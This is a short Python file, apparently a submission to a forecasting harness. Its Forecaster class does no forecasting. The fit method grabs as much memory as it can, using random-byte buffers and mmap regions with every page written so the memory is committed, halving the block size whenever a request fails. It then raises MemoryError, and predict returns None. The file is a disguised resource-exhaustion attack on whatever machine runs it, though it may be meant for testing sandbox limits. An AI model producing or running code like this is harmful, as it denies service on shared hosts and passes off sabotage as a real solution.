"""Grows by small pieces, which it touches; when a request fails it tries smaller ones, and other kinds of memory."""

import mmap
import os


class Forecaster:
    def fit(self, history, *, horizon, seed):
        pieces, size = [], 64 * 2**20
        while len(pieces) < 1600 and size >= 4096:
            try:
                pieces.append(bytearray(os.urandom(4096) * (size // 4096)))
                shared = mmap.mmap(-1, size)
                shared[::4096] = b"1" * len(shared[::4096])
                pieces.append(shared)
            except (MemoryError, OSError):
                size //= 2
        raise MemoryError(f"stopped after {len(pieces)} pieces")

    def predict(self, context):
        return None
